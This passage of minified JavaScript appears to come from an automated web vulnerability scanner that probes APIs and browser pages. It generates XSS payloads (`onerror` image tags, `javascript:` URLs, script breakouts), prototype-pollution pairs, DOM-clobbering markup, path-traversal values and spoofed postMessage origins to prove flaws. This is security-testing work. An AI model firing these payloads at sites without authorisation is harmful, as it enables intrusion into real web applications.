if (!(0, shared_records.u4)(value) || properties === undefined) return [];
return Object.entries(value).slice(0, 200).flatMap(([name, member]) => {
const at = path === "" ? name : `${path}.${name}`;
const described = properties.get(name);
if (described === undefined) return schema.isClosed === true ? [ at ] : [];
return extraIn(member, described, at, depth + 1);
});
}
const NO_LOGIN = "no login was given, or the sign-in failed";
async function gatherApi(context) {
const described = await context.gather("operations");
if (described.state !== "available") return described;
const {operations: operations} = described.value;
if (operations.length === 0) return {
state: "not_applicable",
reason: "no description of an API was given, and the target publishes none"
};
const reader = new OperationReader(context);
const readings = await surveyOf(reader, operations);
const parts = [ await probesOfData(reader, readings), await probesOfUser(reader, readings), await probesOfObjects(reader, readings, operations), await probesOfGraphql(reader, operations), await probeAccounts(reader, operations, readings), {
probes: await probeErrors(reader, readings),
reasons: {}
} ];
const probes = parts.flatMap(part => part.probes);
const reasons = Object.assign({}, ...parts.map(part => part.reasons));
const {requested: requested, isCutShort: isCutShort} = reader;
const responses = readings.flatMap(({own: own, anonymous: anonymous}) => [ own, anonymous ]).filter(one => one !== null);
return {
state: "available",
value: {
probes: probes,
responses: responses,
requested: requested,
isCutShort: isCutShort,
reasons: reasons
}
};
}
async function probesOfData(reader, readings) {
const reasons = {};
if (!readings.some(({operation: operation}) => operation.security === "required")) reasons.broken_authentication = "the description names no operation that reads and requires a credential";
if (!readings.some(({operation: operation}) => operation.response !== null)) reasons.undocumented_properties = "the description has no schema of a response";
const open = await probeAuthentication(reader, readings);
return {
probes: [ ...probeSecrets(readings), ...probeUndocumented(readings), ...open ],
reasons: reasons
};
}
async function probesOfUser(reader, readings) {
if (!reader.isSignedIn) return {
probes: [],
reasons: {
jwt: NO_LOGIN,
verb_tampering: NO_LOGIN,
function: NO_LOGIN
}
};
const jwt = await probeJwt(reader, readings);
const verbs = await probeVerbs(reader, readings);
const functions = await probeFunctions(reader, readings);
const isForAdministrators = readings.some(({operation: operation}) => isAdministrative(operation));
return {
probes: [ ...jwt.probes, ...verbs, ...functions ],
reasons: {
...jwt.reason === null ? {} : {
jwt: jwt.reason
},
...isForAdministrators ? {} : {
function: "no operation that reads is for administrators by its path or scopes"
}
}
};
}
async function probesOfObjects(reader, readings, operations) {
if (!reader.hasIdentity("user") || !reader.hasIdentity("second")) return {
probes: [],
reasons: {
object: "it needs login and second-login"
}
};
const {probes: probes, compared: compared} = await probeObjects(reader, readings, operations);
const reason = "no list shows an object of the user with an operation that reads it";
return {
probes: probes,
reasons: compared === 0 ? {
object: reason
} : {}
};
}
async function probesOfGraphql(reader, operations) {
const {probes: probes, endpoints: endpoints} = await probeGraphql(reader, operations);
return {
probes: probes,
reasons: endpoints === 0 ? {
graphql: "the API has no GraphQL endpoint"
} : {}
};
}
const LISTS_MAX = 30;
const gather_operations_NESTED_MAX = 10;
const gather_operations_CONCURRENCY = 4;
const NO_VALUES = new Map;
async function gatherOperations(context) {
if (context.scanType === "quick") return {
state: "not_applicable",
reason: "a quick scan reads no API description"
};
const {found: found, fault: fault} = await findDescriptions(context);
const {descriptions: descriptions, operations: operations} = merged(found);
const limits = {
...context.options,
allowsPost: context.options.active_post === true,
ownHeaders: new Set(Object.keys(context.options.request_headers ?? {}).map(name => name.toLowerCase()))
};
const lists = await readLists(context, operations, limits);
const points = [];
const urls = [];
for (const operation of operations) {
const values = gather_operations_valuesOf(operation, lists);
points.push(...operationPoints(operation, values, limits));
const request = operation.method === "GET" ? requestOf(operation, values) : null;
if (request !== null && maySend(operation, request, limits)) urls.push((0, insertion_point.Hs)(request).url);
}
return {
state: "available",
value: {
descriptions: descriptions,
operations: operations,
points: points,
urls: [ ...new Set(urls) ],
requested: lists.length,
fault: fault
}
};
}
function merged(found) {
const descriptions = [];
const byId = new Map;
for (const {source: source, description: description} of found) {
const {format: format, version: version, operations: operations, leftOut: leftOut} = description;
const room = OPERATIONS_MAX - byId.size;
const fresh = operations.filter(({id: id}) => !byId.has(id));
for (const operation of fresh.slice(0, room)) if (!byId.has(operation.id)) byId.set(operation.id, operation);
const lost = Math.max(0, fresh.length - room);
descriptions.push({
format: format,
version: version,
source: source,
operations: operations.length,
leftOut: leftOut + lost
});
}
return {
descriptions: descriptions,
operations: [ ...byId.values() ]
};
}
async function readLists(context, operations, limits) {
const isPlain = operation => {
const {format: format, template: template, isRead: isRead, parameters: parameters, body: body} = operation;
if (format === "graphql") return isRead && !hasVariables(body?.value);
return isRead && !template.includes("{") && !parameters.some(one => one.isRequired && one.isInvented === true);
};
const lists = await gather_operations_readAll(context, operations.filter(isPlain).slice(0, LISTS_MAX), [], limits);
const templates = operations.map(({template: template}) => template);
const nested = operations.filter(({template: template, isRead: isRead, method: method}) => isRead && method === "GET" && template.includes("{") && templates.some(other => other.startsWith(`${template}/{`)));
const isKnown = operation => pathValues(operation, lists).size === (operation.template.match(/\{[^{}/]{1,100}\}/g)?.length ?? 0);
return [ ...lists, ...await gather_operations_readAll(context, nested.filter(isKnown).slice(0, gather_operations_NESTED_MAX), lists, limits) ];
}
async function gather_operations_readAll(context, operations, known, limits) {
const found = new Map;
const waiting = operations.values();
const work = async () => {
for (const operation of waiting) {
if (context.signal.aborted) return;
const listed = await readOne(context, operation, known, limits);
if (listed !== null) found.set(operation, listed);
}
};
await Promise.all(Array.from({
length: gather_operations_CONCURRENCY
}, work));
return operations.flatMap(operation => found.get(operation) ?? []);
}
async function readOne(context, operation, known, limits) {
const request = requestOf(operation, known.length === 0 ? NO_VALUES : gather_operations_valuesOf(operation, known));
if (request === null || !maySend(operation, request, limits)) return null;
const attempt = await context.fetch((0, insertion_point.Hs)(request));
if (!(0, http.m_)(attempt) || attempt.response.status >= 300) return null;
return listedIn(list_values_placeOf(operation), attempt.response.text);
}
function gather_operations_valuesOf(operation, lists) {
return operation.format === "graphql" ? variableValues(operation, lists) : pathValues(operation, lists);
}
function hasVariables(body) {
const {variables: variables} = body ?? {};
return Object.keys(variables ?? {}).length > 0;
}
async function gatherBrowser(context) {
const views = await context.gather("views");
if (views.state !== "available") return views;
await context.spareRequests();
await views.value.goOn(1);
return {
state: "available",
value: views.value.seen()
};
}
const CALLED_BACK = "called back";
const STOPS = {
time: "its time was used up",
requests: "its requests were used up"
};
const EXPLORE_SHARE = .55;
const TURN_MIN_MS = 3e3;
class BrowserTime {
#context;
#phase="browser";
#end=0;
#exploreEnd=0;
constructor(context) {
this.#context = context;
}
begin(phase, share) {
this.#phase = phase;
this.#end = performance.now() + this.#context.room(phase).milliseconds * share;
return this.hasTurn();
}
beginTurn(share = EXPLORE_SHARE) {
const now = performance.now();
this.#exploreEnd = now + Math.max(0, this.#end - now) * share;
}
hasTurn() {
return !this.#context.signal.aborted && this.hasRequests() && performance.now() + TURN_MIN_MS < this.#end;
}
hasRequests() {
return this.#context.room(this.#phase).requests > 0;
}
exploreStop() {
return this.#stop(this.#exploreEnd);
}
proveStop() {
return this.#stop(this.#end);
}
#stop(end) {
if (performance.now() >= end) return "time";
return this.hasRequests() ? null : "requests";
}
}
const MARK_LENGTH = 10;
const SINKS_MAX = 500;
const COMPARISONS_MAX = 100;
class Examination {
proofs=[];
names;
origin;
#context;
#time;
#called=new Set;
#seen=new Set;
#fresh=[];
#wasCut=false;
#sinks=[];
#comparisons=[];
constructor(context, names, time) {
this.#context = context;
this.names = names;
this.origin = context.target.origin;
this.#time = time;
}
onReport(report) {
if (report.kind === "proof" && report.origin === this.origin) this.#called.add(report.value);
if (report.kind === "sink" && this.#sinks.length < SINKS_MAX) this.#sinks.push(report);
if (report.kind === "comparison" && this.#comparisons.length < COMPARISONS_MAX) this.#comparisons.push(report);
}
get wasCut() {
return this.#wasCut;
}
hasTime() {
const isOver = this.stopReason() !== null || this.#context.signal.aborted;
this.#wasCut ||= isOver;
return !isOver;
}
stopReason() {
const stop = this.#time.proveStop();
return stop && STOPS[stop];
}
prove(proof) {
const key = one => JSON.stringify([ one.effect, one.page, one.source ]);
if (!this.proofs.some(known => key(known) === key(proof))) this.proofs.push(proof);
}
begin() {
this.#fresh = [];
this.#wasCut = false;
}
forget() {
for (const key of this.#fresh) this.#seen.delete(key);
}
isNew(key) {
if (this.#seen.has(key)) return false;
this.#seen.add(key);
this.#fresh.push(key);
return true;
}
mark() {
return this.#context.token(MARK_LENGTH);
}
async load(page, url, options) {
this.#sinks = [];
this.#comparisons = [];
this.#called.delete(CALLED_BACK);
return page.load(url, options);
}
get sinks() {
return this.#sinks;
}
get comparisons() {
return this.#comparisons;
}
isCalled(value) {
return this.#called.has(value) || this.#called.has(CALLED_BACK);
}
}
const clobbering_LENGTH_MAX = 3 * 1024 * 1024;
const clobbering_READS_MAX = 2e3;
const NAMES_MAX = 20;
const NAME = "[A-Za-z_$][\\w$]{0,40}";
const GLOBAL = new RegExp(`\\bwindow\\.(${NAME})(?:\\??\\.(${NAME}))?`, "g");
const TAKEN = new RegExp(`\\b(?:const|let|var)\\s{1,3}(${NAME})\\s{0,3}=\\s{0,3}window\\.(${NAME})`, "g");
const clobbering_MEMBER = new RegExp(`\\b(${NAME})\\??\\.(${NAME})`, "g");
const OF_WINDOWS = new Set([ "location", "document", "navigator", "history", "addEventListener", "localStorage", "sessionStorage", "parent", "opener", "top", "name", "open" ]);
function clobberingMarkup(code, address) {
const members = new Set(code.flatMap(text => membersRead(text.slice(0, clobbering_LENGTH_MAX))));
return [ ...members ].slice(0, NAMES_MAX).map(member => {
const [name = "", property] = member.split(".");
const anchor = `<a id=${name} href="${address}"></a>`;
return property === undefined ? anchor : `<a id=${name}></a><a id=${name} name=${property} href="${address}"></a>`;
}).join("");
}
function membersRead(text) {
const reads = [ ...text.matchAll(GLOBAL) ].slice(0, clobbering_READS_MAX).filter(([, name = ""]) => !OF_WINDOWS.has(name));
const names = new Map(reads.map(([, name = ""]) => [ name, new Set ]));
for (const [, name = "", property] of reads) if (property !== undefined) names.get(name)?.add(property);
const taken = new Map([ ...text.matchAll(TAKEN) ].slice(0, clobbering_READS_MAX).map(([, variable = "", name = ""]) => [ variable, name ]));
for (const [, variable = "", property = ""] of [ ...text.matchAll(clobbering_MEMBER) ].slice(0, clobbering_READS_MAX)) names.get(taken.get(variable) ?? "")?.add(property);
return [ ...names ].flatMap(([name, properties]) => properties.size === 0 ? [ name ] : [ ...properties ].map(property => `${name}.${property}`));
}
const link_sources_NAMES_MAX = 60;
const SEGMENTS_MAX = 8;
function namesRead({url: url, parameters: parameters}, inCode) {
const isHash = (0, route_shape.a5)(new URL(url).hash);
const names = new Map;
for (const [name, place] of [ ...parameters ].sort()) names.set(name, new Set(isHash ? [ place, "fragment" ] : [ place ]));
for (const name of inCode) if (!names.has(name)) names.set(name, new Set([ isHash ? "fragment" : "query" ]));
return new Map([ ...names ].slice(0, link_sources_NAMES_MAX));
}
function linkSources(url, read) {
const source = (kind, name = "") => ({
kind: kind,
name: name.slice(0, 60)
});
const readIn = place => [ ...read ].flatMap(([name, places]) => places.has(place) ? name : []);
const inQuery = new Set([ ...queryPairs(url).map(([name]) => name), ...readIn("query") ]);
const inFragment = new Set([ ...new URLSearchParams(fragmentQuery(url)).keys(), ...readIn("fragment") ]);
return [ ...[ ...inQuery ].slice(0, link_sources_NAMES_MAX).map(name => source("query", name)), source("query-string"), ...[ ...inFragment ].filter(name => name !== "").slice(0, link_sources_NAMES_MAX).map(name => source("fragment-parameter", name)), source("fragment") ];
}
function segmentSources(url) {
const count = Math.min(SEGMENTS_MAX, segmentsOf(url).length);
const numbers = count < 2 ? [ 1 ] : Array.from({
length: count - 1
}, (_, at) => count - at);
return numbers.map(number => ({
kind: "path",
name: String(number)
}));
}
function segmentsOf(url) {
const path = (0, route_shape.a5)(url.hash) ? url.hash.replace(/^#!?/, "").split("?", 1)[0] ?? "" : url.pathname;
return path.split("/").filter(segment => segment !== "");
}
function pathWith(url, values) {
const segments = segmentsOf(url);
for (const [number, value] of values) segments[Number(number) - 1] = encodeURIComponent(value);
return `/${segments.join("/")}`;
}
function queryPairs({search: search, searchParams: searchParams}) {
return search.includes("=") ? [ ...searchParams ] : [];
}
function fragmentQuery({hash: hash}) {
const mark = hash.indexOf("?");
if (mark !== -1) return hash.slice(mark + 1);
return hash.includes("=") ? hash.slice(1) : "";
}
function withValues(url, values) {
const last = kind => values.findLast(([source]) => source.kind === kind)?.[1];
const named = kind => values.flatMap(([source, value]) => source.kind === kind ? [ [ source.name, value ] ] : []);
const whole = link_sources_bare(last("query-string") ?? "");
const pairs = link_sources_pairsOf([ ...queryPairs(url), ...named("query") ]);
const search = [ whole, pairs ].filter(part => part !== "").join("&");
const inner = link_sources_pairsOf([ ...new URLSearchParams(fragmentQuery(url)), ...named("fragment-parameter") ]);
const inPath = named("path");
const path = inPath.length === 0 ? null : pathWith(url, inPath);
const isHash = (0, route_shape.a5)(url.hash);
const start = isHash ? `${/^#!?/.exec(url.hash)?.[0] ?? "#"}${path ?? routeIn(url.hash)}` : "#";
const hash = hashWith(start, isHash, inner, last("fragment"));
return `${url.origin}${isHash ? url.pathname : path ?? url.pathname}${search === "" ? "" : `?${search}`}${hash}`;
}
function routeIn(hash) {
return hash.replace(/^#!?/, "").split("?", 1)[0] ?? "";
}
function link_sources_pairsOf(pairs) {
return [ ...new Map(pairs) ].map(pair => pair.map(encodeURIComponent).join("=")).join("&");
}
function hashWith(start, isRoute, pairs, end) {
const whole = end === undefined ? "" : link_sources_bare(end).replaceAll("%26", "&");
const inner = [ pairs, whole ].filter(part => part !== "").join("&");
if (isRoute) return `${start}${inner === "" ? "" : `?${inner}`}`;
return inner === "" && end === undefined ? "" : `#${inner}`;
}
function link_sources_bare(value) {
return value.replace(/[%#&+ \n]/g, character => encodeURIComponent(character));
}
const OF_OPENER = [ {
kind: "window-name",
name: ""
}, {
kind: "referrer",
name: ""
} ];
function openerValues(values, origin, word) {
const of = kind => values.find(([source]) => source.kind === kind)?.[1];
const windowName = of("window-name");
const path = of("referrer");
return {
...windowName === undefined ? {} : {
windowName: windowName
},
...path === undefined ? {} : {
referrer: `${new URL(origin).protocol}//${word}.invalid/${path}`
}
};
}
function pathHit(requests, origin, mark) {
for (const text of requests) {
const url = URL.parse(text);
const at = url?.pathname.toLowerCase().indexOf(mark) ?? -1;
if (url === null || url.origin !== origin || at === -1) continue;
const start = url.pathname.lastIndexOf("/", at) + 1;
const folder = url.pathname.slice(0, start);
const after = url.pathname.slice(at + mark.length);
if (folder !== "/") return {
origin: origin,
folder: folder,
before: url.pathname.slice(start, at),
after: after
};
}
return null;
}
function traversed(requests, {origin: origin, folder: folder, before: before, after: after}, value) {
const expected = new URL(`${folder}${before}../${value}${after}`, origin).pathname;
if (expected.startsWith(folder)) return null;
return requests.find(text => {
const url = URL.parse(text);
return url?.origin === origin && url.pathname === expected;
}) ?? null;
}
const payloads_PAYLOADS_MAX = 10;
const REQUEST_SINK = "request";
function payloads_payloadsFor(hits, call) {
const kinds = new Set(hits.map(({sinkKind: sinkKind}) => sinkKind));
const found = new Set;
const add = (...payloads) => {
for (const payload of payloads) found.add(payload);
};
if (kinds.has("html")) add(`<img src=x onerror=${call}>`, `"><img src=x onerror=${call}>`, `'><img src=x onerror=${call}>`, `"'><\/script></title></textarea></style><img/src/onerror=${call}>`, `--\x3e<img src=x onerror=${call}>`);
for (const hit of hits.filter(({sinkKind: sinkKind}) => sinkKind === "script")) add(...scriptPayloads(hit, call));
if (hits.some(({sinkKind: sinkKind, sink: sink}) => sinkKind === "url" && sink !== REQUEST_SINK)) add(`javascript:${call}//`, `data:text/javascript,${call}`);
return [ ...found ].slice(0, payloads_PAYLOADS_MAX);
}
function urlHits(urls, sink, mark) {
return urls.flatMap(text => {
const url = URL.parse(text);
if (url?.pathname.split("/").at(-1)?.toLowerCase() === mark) return [ {
sinkKind: "url",
sink: sink,
text: mark,
at: 0
} ];
if (url?.hostname.endsWith(mark) !== true) return [];
return [ {
sinkKind: "url",
sink: sink,
text: text,
at: text.toLowerCase().indexOf(mark)
} ];
});
}
function hostPayloads(hits, host) {
const found = new Set;
for (const {text: text, at: at} of hits.filter(({sinkKind: sinkKind}) => sinkKind === "url")) {
const before = text.slice(0, at).trim();
if (before === "/") found.add(`/${host}/`); else if (/^https?:\/\/[^/?#]{1,100}$/i.test(before)) found.add(`.${host}/`).add(`@${host}/`); else if (before === "") found.add(`https://${host}/`).add(`//${host}/`);
}
return [ ...found ];
}
function callbackPayloads(hits, name) {
const isQuery = ({sinkKind: sinkKind, sink: sink, text: text, at: at}) => sinkKind === "url" && /script/i.test(sink) && text.slice(0, at).includes("?");
return hits.some(isQuery) ? [ `&callback=${name}&`, `&jsonp=${name}&` ] : [];
}
function pollutingPairs(name) {
return `__proto__[${name}]=${name}&__proto__.${name}=${name}&constructor[prototype][${name}]=${name}`;
}
function scriptPayloads({text: text, at: at}, call) {
const quote = openQuote(text.slice(0, at));
const inQuotes = quote === "" ? [] : [ `${quote};${call}//`, `${quote}-${call}-${quote}`, `${quote});${call}//` ];
return [ ...inQuotes, call, `name,${call}`, `';${call}//`, `";${call}//`, `);${call}//`, `\n${call}//` ];
}
function openQuote(script) {
let open = "";
for (let index = 0; index < script.length; index += 1) {
const character = script[index] ?? "";
if (character === "\\") index += 1; else if (open === "") open = /["'`]/.test(character) ? character : ""; else if (character === open) open = "";
}
return open;
}
const script_parameters_LENGTH_MAX = 3 * 1024 * 1024;
const script_parameters_NAMES_MAX = 60;
const script_parameters_READS_MAX = 1e3;
const script_parameters_FORMS = [ /\bqueryParams(?:\(\)|\.value)?\??(?:\.(?<dotted>[A-Za-z_$][\w$]{0,40})|\[["'`](?<quoted>[\w.-]{1,40})["'`]\])/g, /\b(?:queryParamMap|searchParams|URLSearchParams\([^()"'`]{0,60}\))\??\.(?:get|getAll|has)\(\s{0,9}["'`](?<quoted>[\w.-]{1,40})["'`]/g, /\.query\??(?:\.(?<dotted>[A-Za-z_$][\w$]{0,40})|\[["'`](?<quoted>[\w.-]{1,40})["'`]\])/g ];
const TAKEN_APART = /\{([^{}]{1,200})\}\s{0,9}=\s{0,9}[\w$.]{0,60}\.query\b/g;
const BY_NAME = /\.(?:get|getAll|has)\(\s{0,9}["'`](?<quoted>[\w.-]{1,40})["'`]\s{0,9}\)/g;
const MEMBERS = new Set([ ...[ "subscribe", "pipe", "next", "value", "set", "get", "getAll", "has", "append", "delete" ], ...[ "keys", "values", "entries", "forEach", "map", "filter", "length", "toString", "asObservable", "hasOwnProperty", "snapshot" ] ]);
function scriptParameters(script, isOfView = false) {
const text = script.slice(0, script_parameters_LENGTH_MAX);
const forms = isOfView ? [ ...script_parameters_FORMS, BY_NAME ] : script_parameters_FORMS;
const read = forms.flatMap(form => [ ...text.matchAll(form) ].slice(0, script_parameters_READS_MAX));
const taken = [ ...text.matchAll(TAKEN_APART) ].slice(0, script_parameters_READS_MAX);
const names = [ ...read.map(({index: index, groups: groups}) => ({
index: index,
names: [ nameIn(groups ?? {}) ]
})), ...taken.map(({index: index, 1: members = ""}) => ({
index: index,
names: members.split(",").map(keyIn)
})) ].sort((one, other) => one.index - other.index).flatMap(found => found.names);
return [ ...new Set(names) ].filter(name => name !== "").slice(0, script_parameters_NAMES_MAX);
}
function nameIn({dotted: dotted = "", quoted: quoted}) {
return quoted ?? (MEMBERS.has(dotted) ? "" : dotted);
}
function keyIn(member) {
return /^\s{0,9}["'`]?([\w$-]{1,40})["'`]?\s{0,9}(?:[:=]|$)/.exec(member)?.[1] ?? "";
}
const script_parameters_known = new WeakMap;
function script_parameters_parametersOf(exchange, isOfView) {
const read = script_parameters_known.get(exchange) ?? new Map;
script_parameters_known.set(exchange, read);
const own = read.get(isOfView) ?? scriptParameters(exchange.response.text, isOfView);
read.set(isOfView, own);
return own;
}
function parametersOfCode(own, shared) {
const names = [ ...own.flatMap(exchange => script_parameters_parametersOf(exchange, true)), ...shared.flatMap(exchange => script_parameters_parametersOf(exchange, false)) ];
return [ ...new Set(names) ].slice(0, script_parameters_NAMES_MAX);
}
const PRESSED_MAX = 10;
class LinkProber {
#at;
#comparison;
constructor(at, comparison) {
this.#at = at;
this.#comparison = comparison;
}
async probe(page, explored) {
const address = new URL(explored.url);
const {own: own, shared: shared} = this.#comparison.codeOf(explored);
const sources = [ ...linkSources(address, namesRead(explored, parametersOfCode(own, shared))), ...OF_OPENER ];
await this.#follow(page, explored, sources);
if (!this.#comparison.isClientRoute(explored)) return;
for (const source of segmentSources(address)) if (this.#at.hasTime()) await this.#follow(page, explored, [ source ]);
}
async #follow(page, explored, sources) {
const address = new URL(explored.url);
const marked = sources.map(source => ({
source: source,
mark: this.#at.mark()
}));
const values = marked.map(({source: source, mark: mark}) => [ source, mark ]);
const shape = withValues(address, marked.map(({source: source}) => [ source, "" ]));
if (!this.#at.isNew(shape)) return;
const {hits: hits, cutsOpener: cutsOpener, requests: requests} = await this.#observe(page, explored, values);
for (const {source: source, mark: mark} of marked) {
const request = pathHit(requests, this.#at.origin, mark);
if (request !== null && this.#at.hasTime()) await this.#leave(page, explored, source, request);
const own = hits.get(mark) ?? [];
if (own.length === 0 || source.kind === "window-name" && cutsOpener) continue;
const isProven = this.#at.hasTime() && await this.#prove(page, explored, source, own);
if (!isProven && own.some(({sinkKind: sinkKind}) => sinkKind === "html") && this.#at.hasTime()) await this.#clobber(page, explored, source, own);
}
}
async #observe(page, {url: url, staying: staying}, values) {
const marks = values.map(([, mark]) => mark);
const options = {
mode: "observe",
marks: marks,
...this.#opener(values)
};
const log = await this.#at.load(page, withValues(new URL(url), values), options);
const attributes = readMarkedAttributes(await page.call("markedAttributes"));
if (await this.#press(page, staying)) attributes.push(...readMarkedAttributes(await page.call("markedAttributes")));
const hits = new Map;
const add = (mark, hit) => hits.set(mark, [ ...hits.get(mark) ?? [], hit ]);
for (const sink of this.#at.sinks) add(sink.mark, sink);
const isWritten = mark => log.document.toLowerCase().includes(mark);
for (const {name: name, tag: tag, mark: mark, value: value} of attributes.filter(found => !isWritten(found.mark))) add(mark, {
sinkKind: name.startsWith("on") ? "script" : "url",
sink: `${tag} ${name}`,
text: value,
at: Math.max(0, value.toLowerCase().indexOf(mark))
});
for (const [urls, sink] of [ [ log.navigations, "navigation" ], [ log.requests, REQUEST_SINK ] ]) for (const mark of marks.filter(one => !isWritten(one))) for (const hit of urlHits(urls, sink, mark)) add(mark, hit);
return {
hits: hits,
cutsOpener: log.cutsOpener,
requests: log.requests
};
}
async #leave(page, explored, source, request) {
const value = this.#at.mark();
const payload = `../${value}`;
const values = [ [ source, payload ] ];
const log = await this.#at.load(page, withValues(new URL(explored.url), values), {
mode: "observe",
marks: [ value ]
});
const isSent = () => traversed(log.requests, request, value);
if (isSent() === null) await this.#press(page, explored.staying);
const sent = isSent();
if (sent === null) return;
const url = withValues(new URL(explored.url), values);
const sink = `request of ${request.folder}`;
this.#at.prove({
effect: "traversal",
page: explored.url,
url: url,
source: source,
sink: sink,
payload: payload,
sender: "",
requested: sent
});
}
async #prove(page, explored, source, hits) {
const address = new URL(explored.url);
const value = this.#at.mark();
const host = `${value}.invalid`;
const call = `${this.#at.names.proof}('${value}')`;
const attacker = {
host: host,
code: `/*<img src=x onerror=${call}>*/${call}`
};
const toHost = new Set(hostPayloads(hits, host));
const payloads = [ ...payloads_payloadsFor(hits, call), ...toHost, ...callbackPayloads(hits, this.#at.names.proof) ];
for (const payload of payloads) {
if (!this.#at.hasTime()) return false;
const values = [ [ source, payload ] ];
const {navigations: navigations} = await this.#run(page, explored, values, attacker, toHost.has(payload) ? "" : value);
const isRun = this.#at.isCalled(value);
const led = noted => isWithin(URL.parse(noted)?.hostname ?? "", host);
if (!isRun && !navigations.some(led)) continue;
const effect = isRun ? "script" : "redirect";
const {referrer: referrer = ""} = this.#opener(values);
const url = withValues(address, values);
const sink = hits[0]?.sink ?? "";
this.#at.prove({
effect: effect,
page: address.href,
url: url,
source: source,
sink: sink,
payload: payload,
sender: referrer
});
return true;
}
return false;
}
async #clobber(page, explored, source, [hit]) {
const value = this.#at.mark();
const host = `${value}.invalid`;
const {own: own, shared: shared} = this.#comparison.codeOf(explored);
const code = [ ...own, ...shared ].map(({response: response}) => response.text);
const payload = clobberingMarkup(code, `//${host}/`);
if (payload === "") return;
const values = [ [ source, payload ] ];
await this.#run(page, explored, values, {
host: host,
code: `${this.#at.names.proof}('${value}')`
}, "");
if (!this.#at.isCalled(value)) return;
const {referrer: referrer = ""} = this.#opener(values);
const url = withValues(new URL(explored.url), values);
this.#at.prove({
effect: "clobbering",
page: explored.url,
url: url,
source: source,
sink: hit?.sink ?? "",
payload: payload,
sender: referrer
});
}
async #press(page, signatures) {
const {actions: actions = []} = signatures.size === 0 ? {} : await page.snapshot() ?? {};
const known = actions.filter(({signature: signature}) => signatures.has(signature)).slice(0, PRESSED_MAX);
for (const {id: id} of known) await page.call("act", id);
if (known.length > 0) await page.settle();
return known.length > 0;
}
#opener(values) {
return openerValues(values, this.#at.origin, this.#at.names.word);
}
async #run(page, {url: url, staying: staying}, values, attacker, pressed) {
const options = {
mode: "prove",
attacker: attacker,
...this.#opener(values)
};
const log = await this.#at.load(page, withValues(new URL(url), values), options);
if (pressed === "" || this.#at.isCalled(pressed)) return log;
await page.call("pressMarked", pressed);
await page.settle();
if (!this.#at.isCalled(pressed)) await this.#press(page, staying);
return log;
}
}
const SHAPES_MAX = 24;
const ORIGINS_MAX = 8;
const NOT_DATA = new Set("data origin source length prototype body documentElement innerHTML location href log style value textContent target".split(" "));
function messageShapes(code, value) {
const text = code.slice(0, 16e3);
const namesIn = pattern => [ ...text.matchAll(pattern) ].map(([, name = ""]) => name);
const others = namesIn(/\.\s{0,4}([A-Za-z_$][\w$]{0,30})\b(?!\s{0,4}\()/g).filter(name => !NOT_DATA.has(name));
const properties = [ ...new Set([ ...namesIn(/\bdata\s{0,4}\??\.\s{0,4}([A-Za-z_$][\w$]{0,30})\b(?!\s{0,4}\()/g), ...others ]) ].slice(0, 10);
const constants = [ ...new Set([ ...text.matchAll(/(?:={2,3}|case)\s{0,4}["'`]([^"'`\n]{1,40})["'`]/g) ].map(([, word = ""]) => word)) ].slice(0, 6);
const all = Object.fromEntries(properties.map(name => [ name, value ]));
const shapes = [ value, ...properties.length === 0 ? [] : [ all ] ];
for (const constant of constants) for (const property of properties.slice(0, 5)) shapes.push({
...all,
[property]: constant
});
const few = shapes.slice(0, SHAPES_MAX);
return text.includes("JSON.parse") ? few.flatMap(shape => [ JSON.stringify(shape), shape ]) : few;
}
function deceivingOrigins(comparisons, foreignHost) {
const found = new Set;
for (const {name: name, text: text} of comparisons) {
const host = hostIn(name, text);
if (host === null) continue;
const written = host.replaceAll(ANY_CHARACTER, ".");
const bareHost = written.replace(/^\./, "");
if (name === "endsWith") {
if (!written.startsWith(".")) found.add(`https://x${written}`);
continue;
}
if (host !== written) found.add(`https://${host.replace(ANY_CHARACTER, "x").replaceAll(ANY_CHARACTER, ".")}`);
found.add(`https://${bareHost}.${foreignHost}`);
found.add(`http://${bareHost}.${foreignHost}`);
found.add(`https://x${bareHost}`);
}
return [ ...found ].slice(0, ORIGINS_MAX);
}
const PATTERNS = new Set([ "test", "exec", "match", "search" ]);
const ANY_CHARACTER = "";
function hostIn(name, text) {
const plain = PATTERNS.has(name) ? unescaped(text) : text;
const host = plain.replace(/^https?:\/\//, "").split("/", 1)[0] ?? "";
return /^\.?[\w.\ue000-]{3,100}(?::\d{1,5})?$/.test(host) ? host : null;
}
function unescaped(source) {
return source.slice(0, 300).replace(/https\?/g, "https").replace(/[\^$()]/g, "").replace(/\\(.)|\./g, (_all, escaped) => escaped ?? ANY_CHARACTER);
}
class MessageProber {
#at;
constructor(at) {
this.#at = at;
}
async probe(page, {url: url, handlers: handlers}) {
if (handlers.size === 0) return;
const code = [ ...handlers ].join("\n");
if (!this.#at.isNew(`message ${code}`)) return;
const accepted = await this.#acceptedMessage(page, url, code);
if (accepted === null) return;
const {sender: sender, hits: hits, shapesOf: shapesOf} = accepted;
const value = this.#at.mark();
for (const payload of payloads_payloadsFor(hits, `${this.#at.names.proof}('${value}')`)) {
if (!this.#at.hasTime()) return;
await this.#at.load(page, url, {
mode: "prove"
});
for (const shape of shapesOf(payload)) await page.call("dispatch", sender, shape);
await page.settle();
if (!this.#at.isCalled(value)) continue;
const sink = hits[0]?.sink ?? "";
const source = {
kind: "message",
name: ""
};
this.#at.prove({
effect: "script",
page: url,
url: url,
source: source,
sink: sink,
payload: payload,
sender: sender
});
return;
}
}
async #acceptedMessage(page, url, code) {
const foreignHost = `${this.#at.mark()}.invalid`;
const mark = this.#at.mark();
const foreign = `https://${foreignHost}`;
const forward = text => messageShapes(code, text);
const backward = text => messageShapes(code, text).reverse();
const attempt = async (sender, shapesOf, host = "") => {
const hits = await this.#sendMarked(page, url, sender, shapesOf(mark), mark, host);
return hits.length === 0 ? null : {
sender: sender,
hits: hits,
shapesOf: shapesOf
};
};
const direct = await attempt(foreign, forward, foreignHost);
if (direct !== null) return direct;
for (const origin of deceivingOrigins(this.#at.comparisons, foreignHost)) {
if (!this.#at.hasTime()) return null;
const accepted = await attempt(origin, forward);
if (accepted !== null) return accepted;
}
return forward(mark).length > 1 && this.#at.hasTime() ? attempt(foreign, backward) : null;
}
async #sendMarked(page, url, sender, shapes, mark, foreignHost) {
await this.#at.load(page, url, {
mode: "observe",
marks: [ mark ],
foreignHost: foreignHost
});
const before = this.#at.sinks.length;
for (const shape of shapes) await page.call("dispatch", sender, shape);
await page.settle();
return this.#at.sinks.slice(before).filter(sink => sink.mark === mark);
}
}
class PollutionProber {
#at;
#comparison;
constructor(at, comparison) {
this.#at = at;
this.#comparison = comparison;
}
async probe(page, explored) {
if (!this.#comparison.readsAddress(explored)) return;
const {url: url} = explored;
const address = new URL(url);
